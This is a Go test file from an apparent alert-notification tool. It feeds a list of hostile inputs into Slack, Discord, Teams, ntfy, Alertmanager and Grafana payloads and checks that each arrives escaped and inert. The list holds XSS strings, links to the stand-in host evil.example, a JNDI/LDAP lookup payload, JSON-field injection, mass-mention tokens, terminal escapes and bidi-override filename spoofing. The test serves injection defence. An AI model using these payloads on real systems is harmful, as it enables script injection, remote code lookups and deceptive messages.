package sink

import (
	"encoding/json"
	"fmt"
	"maps"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/packetscope/packetscope/internal/annotator/sink/double"
)

// hostile are words of strangers, each of which does something somewhere.
var hostile = []string{
	`<img src=x onerror=alert(1)>`, `<script>alert(1)</script>`, `</div><b>bold</b>`, `&lt;img src=x&gt;`, `"><svg/onload=alert(1)>`,
	`<a href="//evil.example/x">x</a>`, `<img src="//evil.example/pixel.png">`, `![x](https://evil.example/p.png)`,
	`[click](https://evil.example)`, `<https://evil.example|click>`, `https://evil.example/?q=1`, `www.evil.example`, `ftp://evil.example`,
	`@everyone`, `@here`, `<!channel>`, `<!here|here>`, `<!everyone>`, `<!subteam^S1>`, `<@U123>`, `<@!123>`, `<@&456>`, `<#C123|general>`,
	`<at>Bob</at>`, "*bold* _it_ ~no~ `code`", "```\nblock\n```", "> quote", "# heading", "- item", "1. item", "||spoiler||", "<t:0:R>", "<:a:1>", "</cmd:1>",
	"\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\u009b31m", "a\rb\nc\x00d",
	"abc\u202ecod.exe", "\u2066isolate\u2069", "zero\u200bwidth\u200d", "tag\U000e0041\U000e007f", "\ufeffbom", "\u2028line\u2029",
	"\u3164filler", "selector\ufe0f\U000e0100", strings.Repeat("z\u0301\u0302\u0303\u0304", 9), "\xff\xfe\xc0\xaf",
	`{{ .Secret }}`, `${jndi:ldap://evil.example}`, `","text":"injected`, "tag:with:colons,and commas", strings.Repeat("A", 9000), strings.Repeat("<&>", 3000), strings.Repeat("&", 9000), strings.Repeat("🙂", 3000),
	"",
}

// sayEverywhere returns a message in which strangers say the words wherever they
// can.
func sayEverywhere(words string) Message {
	m := flood(3)
	m.ID = words
	m.Alert.Name, m.Alert.Severity = "Alert "+words, words
	m.Alert.Labels = map[string]string{"instance": words}
	e := &m.Explanation
	e.By, e.Model, e.Verdict, e.Confidence, e.Summary = "model", words, words, words, "Sum "+words
	e.Findings, e.Checks = nil, nil
	for range 5 {
		e.Findings = append(e.Findings, Finding{"Found " + words, []string{words}})
		e.Checks = append(e.Checks, Step{"Check " + words, words, words})
	}
	m.Suggestion.ID, m.Suggestion.Action, m.Suggestion.State, m.Suggestion.YAML = words, words, words, words
	m.Links.Episode = links + "/" + words
	original, err := json.Marshal(map[string]any{"version": "4", "commonLabels": map[string]string{"x": words}, "commonAnnotations": map[string]string{"x": words}})
	if err != nil {
		panic(err)
	}
	m.Alertmanager = original
	return m
}

// Anything of this in a text that people read is a fault, whatever the target.
func unseenOrLink(text string) string {
	for i, r := range text {
		if r != '\n' && (!unicode.IsPrint(r) || unicode.Is(unicode.Variation_Selector, r)) {
			return fmt.Sprintf("%q cannot be seen", text[i:i+len(string(r))])
		}
	}
	if strings.Contains(text, "://") || strings.Contains(strings.ToLower(text), "www.") {
		return "a link works"
	}
	return ""
}

var (
	entity  = regexp.MustCompile(`&(amp|lt|gt);`)
	escaped = regexp.MustCompile(`\\[^0-9A-Za-z\s]`)
	// ourDiscordLinks are what we write ourselves.
	ourDiscordLinks = regexp.MustCompile(`\[(Dashboard|Episode)\]\(<https://grafana\.example\.net/d/[!-;=?-Z^-~]*>\)`)
)

func inHTML(text string) string {
	if rest := entity.ReplaceAllString(text, ""); strings.ContainsAny(rest, "<>&") {
		return "it is HTML"
	}
	return ""
}

// readers tell what is wrong with the texts in the body for a target.
var readers = map[string]func(v map[string]any) string{
	"slack": func(v map[string]any) string {
		if v["mrkdwn"] != false {
			return "the text is read as markup"
		}
		return walk(v, func(object map[string]any, key, text string) string {
			switch {
			case key == "url":
				return ourLink(text)
			case key == "type":
				if text == "mrkdwn" {
					return "a text is read as markup"
				}
				return ""
			case strings.Contains(text, "@"):
				return "a name is mentioned"
			}
			return inHTML(text) + unseenOrLink(text)
		})
	},
	"discord": func(v map[string]any) string {
		if fmt.Sprint(v["allowed_mentions"]) != "map[parse:[]]" {
			return "mentions are allowed"
		}
		return walk(v, func(_ map[string]any, key, text string) string {
			if key == "timestamp" {
				return ""
			}
			text = ourDiscordLinks.ReplaceAllString(text, "")
			if strings.ContainsAny(escaped.ReplaceAllString(text, ""), "\\*_~`|>#[]()<@") {
				return "it is Markdown"
			}
			return unseenOrLink(escaped.ReplaceAllStringFunc(text, func(s string) string { return s[1:] }))
		})
	},
	"msteams": func(v map[string]any) string {
		return walk(v, func(object map[string]any, key, text string) string {
			switch {
			case key == "url":
				return ourLink(text)
			case key == "$schema":
				return ""
			case key == "text" && object["type"] != "TextRun":
				return "a text is read as Markdown"
			case key == "entities" || strings.ContainsAny(text, "<>@"):
				return "there is a mention or HTML"
			}
			return unseenOrLink(text)
		})
	},
	"ntfy": func(v map[string]any) string {
		if _, ok := v["markdown"]; ok {
			return "the text is read as Markdown"
		}
		return walk(v, func(_ map[string]any, key, text string) string {
			if key == "url" || key == "click" {
				return ourLink(text)
			}
			return unseenOrLink(text)
		})
	},
	"alertmanager": func(v map[string]any) string {
		annotations := v["commonAnnotations"].(map[string]any)
		maps.DeleteFunc(annotations, func(key string, _ any) bool { return !strings.HasPrefix(key, "packetscope_") })
		if len(annotations) != 4 {
			return "our annotations are missing"
		}
		return walk(annotations, func(_ map[string]any, _, text string) string {
			if strings.ContainsAny(text, "<>[]@`*|") || strings.Contains(text, "{{") {
				return "it is markup somewhere"
			}
			return unseenOrLink(text)
		})
	},
	"packetscope": func(v map[string]any) string {
		explanation := v["explanation"].(map[string]any)
		return walk(explanation, func(_ map[string]any, key, text string) string {
			switch key {
			case "link":
				return ourLink(text)
			case "facts", "promql": // not sentences
				return ""
			}
			return unseenOrLink(text)
		})
	},
}

func ourLink(text string) string {
	if !strings.HasPrefix(text, links+"/") || strings.ContainsAny(text, "<>|\"'`()[]{}* @\\") {
		return "it is not our link"
	}
	return ""
}

// walk calls look with all strings of an object, until one is bad.
func walk(v map[string]any, look func(object map[string]any, key, text string) string) string {
	var one func(object map[string]any, key string, v any) string
	one = func(object map[string]any, key string, v any) string {
		switch v := v.(type) {
		case string:
			if bad := look(object, key, v); bad != "" {
				return fmt.Sprintf("%s: %s: %q", key, bad, v)
			}
		case []any:
			for _, e := range v {
				if bad := one(object, key, e); bad != "" {
					return bad
				}
			}
		case map[string]any:
			for _, k := range slices.Sorted(maps.Keys(v)) {
				if bad := one(v, k, v[k]); bad != "" {
					return bad
				}
			}
		}
		return ""
	}
	return one(nil, "", v)
}

// judges are the receivers' limits.
var judges = map[string]func(string, []byte) double.Answer{
	"slack": double.Slack, "discord": double.Discord, "msteams": double.Teams, "ntfy": double.Ntfy,
}

func TestHostileWordsReachNobodyUnescaped(t *testing.T) {
	corpus := slices.Clone(hostile)
	for i := range hostile { // and in pairs
		corpus = append(corpus, hostile[i]+hostile[(i*7+3)%len(hostile)])
	}
	for _, format := range Formats() {
		r := &double.Receiver{Judge: judges[format]}
		n := newNotify(t, NotifyOptions{Format: format, URL: serve(t, r) + "/alerts"})
		for i, words := range corpus {
			if _, err := n.Send(t.Context(), sayEverywhere(words), nil); err != nil {
				t.Fatalf("%s, %.40q: %v", format, words, err)
			}
			body := r.Received()[i].Body
			if strings.ContainsFunc(string(body), func(r rune) bool { return r < ' ' || !unicode.IsPrint(r) || r == '<' || r == '>' || r == '&' }) {
				t.Errorf("%s, %.40q: raw in the body: %.200q", format, words, body)
			}
			var v map[string]any
			if err := json.Unmarshal(body, &v); err != nil {
				t.Fatal(err)
			}
			if bad := readers[format](v); bad != "" {
				t.Errorf("%s, %.40q: %.300s", format, words, bad)
			}
		}
	}
}

func TestHostileWordsAreInertInGrafana(t *testing.T) {
	d := &double.Grafana{}
	g := newGrafana(t, GrafanaOptions{URL: serve(t, d)})
	for i, words := range hostile {
		m := sayEverywhere(words)
		m.Episode, m.Explanation.By = fmt.Sprintf("%012x", i), words
		if _, err := g.Send(t.Context(), m, nil); err != nil {
			t.Fatalf("%.40q: %v", words, err)
		}
		a := d.Annotations("packetscope", "ep:"+m.Episode)[0]
		if bad := inHTML(a.Text) + unseenOrLink(a.Text); bad != "" || len(a.Text) > mostText {
			t.Errorf("%.40q: %s, %d bytes: %.300q", words, bad, len(a.Text), a.Text)
		}
		tags, err := json.Marshal(a.Tags)
		if err != nil || len(tags) >= mostTags {
			t.Errorf("%.40q: tags have %d bytes: %s", words, len(tags), tags)
		}
		for _, tag := range a.Tags {
			if !regexp.MustCompile(`^([a-z]+:)?[A-Za-z0-9_.-]+$`).MatchString(tag) {
				t.Errorf("%.40q: tag %q", words, tag)
			}
		}
	}
}

// The readers above have to find what they look for.
func TestReadersFindFaults(t *testing.T) {
	for format, bodies := range map[string][]string{
		"slack":        {`{"mrkdwn":true}`, `{"mrkdwn":false,"text":"<!channel>"}`, `{"mrkdwn":false,"text":"@x"}`, `{"mrkdwn":false,"blocks":[{"type":"mrkdwn"}]}`, `{"mrkdwn":false,"text":"http://e"}`, `{"mrkdwn":false,"url":"http://e"}`},
		"discord":      {`{}`, `{"allowed_mentions":{"parse":["everyone"]}}`, `{"allowed_mentions":{"parse":[]},"a":["*x*"]}`, `{"allowed_mentions":{"parse":[]},"a":"@x"}`, `{"allowed_mentions":{"parse":[]},"a":"\\\\*"}`},
		"msteams":      {`{"type":"TextBlock","text":"x"}`, `{"type":"TextRun","text":"<at>"}`, `{"a":"x\u202e"}`},
		"ntfy":         {`{"markdown":true}`, `{"message":"https://e"}`, `{"click":"https://e"}`, `{"message":"\u001b"}`},
		"alertmanager": {`{"commonAnnotations":{}}`, `{"commonAnnotations":{"packetscope_a":"<b>","packetscope_b":"","packetscope_c":"","packetscope_d":""}}`},
		"packetscope":  {`{"explanation":{"summary":"\u200b"}}`, `{"explanation":{"checks":[{"link":"x"}]}}`},
	} {
		for _, body := range bodies {
			var v map[string]any
			if err := json.Unmarshal([]byte(body), &v); err != nil {
				t.Fatal(err)
			}
			if readers[format](v) == "" {
				t.Errorf("%s: nothing wrong with %s", format, body)
			}
		}
	}
}
